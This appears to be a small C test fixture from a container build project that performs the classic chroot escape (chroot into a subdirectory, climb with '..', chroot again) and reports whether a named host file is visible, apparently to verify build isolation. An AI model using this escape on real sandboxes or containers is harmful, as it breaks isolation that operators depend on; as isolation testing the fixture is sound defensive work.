/* The classic way out of a chroot for a process with CAP_SYS_CHROOT: chroot into a
 * subdirectory while the working directory stays outside it, climb with "..", chroot to where
 * the climb ends. Then reports whether the file named by argv[1] (a host path) is visible.
 * Built static by tests/support/oci-registry.sh (OCI_ESCAPE=1) into test/escape:1.0, for the
 * isolation test of image builds. Prints "host file visible" or "host file not visible". */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    mkdir("/.escape", 0755);
    if (chroot("/.escape") != 0) { perror("chroot"); return 1; }
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) { perror("chroot ."); return 1; }
    printf(access(argv[1], F_OK) == 0 ? "host file visible\n" : "host file not visible\n");
    return 0;
}
